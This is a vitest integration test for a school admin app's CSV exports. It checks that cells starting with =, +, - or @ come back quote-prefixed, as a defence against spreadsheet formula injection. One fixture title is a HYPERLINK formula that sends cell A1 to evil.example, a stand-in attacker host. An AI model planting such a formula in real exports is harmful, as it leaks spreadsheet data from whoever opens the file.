import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/server/resources/csv';
import { apiClient, type ApiClient } from './support/client';
import { databaseKinds, startServer, type TestServer } from './support/server';

// What a spreadsheet runs as a formula when a cell starts with it (OWASP CSV injection).
const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(databaseKinds)('CSV exports carry no live formulas on %s', (kind) => {
  let server: TestServer;
  let api: ApiClient;
  let admin: string;

  beforeAll(async () => {
    server = await startServer(kind);
    api = apiClient(server.url);
    admin = await api.login('admin@demo.school');
  });
  afterAll(() => server.close());

  /** Downloads an export and reads it back the way a spreadsheet splits it into cells. */
  async function exported(path: string): Promise<string[][]> {
    const response = await fetch(`${server.url}/api${path}`, { headers: { Token: admin } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/text\/csv/);
    return parseCsv(await response.text());
  }

  it('neutralises =, +, -, @ at the start of a cell in every export', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
    expect(
      (
        await api.post(
          '/schools/1/admin/announcements',
          { title, body: 'x', audience: 'students' },
          admin,
        )
      ).status,
    ).toBe(200);
    for (const [first, last] of [
      ['+cmd', 'Formula'],
      ['-1+2', 'Formula'],
      ['@SUM(A1)', 'Formula'],
    ]) {
      const created = await api.post(
        '/schools/1/admin/students',
        { first_name: first, last_name: last },
        admin,
      );
      expect(created.status, JSON.stringify(created.body)).toBe(200);
    }
    await api.post(
      '/schools/1/admin/users',
      {
        first_name: '=1+1',
        last_name: 'Formula',
        email: 'formula@example.test',
        roles: ['teacher'],
      },
      admin,
    );

    const announcements = await exported('/schools/1/admin/announcements/export?format=csv');
    const students = await exported('/schools/1/admin/students/export?format=csv&search=Formula');
    const users = await exported('/schools/1/admin/users/export?format=csv&search=Formula');
    for (const [name, rows] of Object.entries({ announcements, students, users })) {
      const live = rows.flat().filter((cell) => FORMULA_START.test(cell));
      expect(live, name).toEqual([]);
    }
    expect(announcements.flat()).toContain(`'${title}`);
    expect(students.flat()).toEqual(expect.arrayContaining(["'+cmd", "'-1+2", "'@SUM(A1)"]));
    expect(users.flat()).toContain("'=1+1");
  });
});
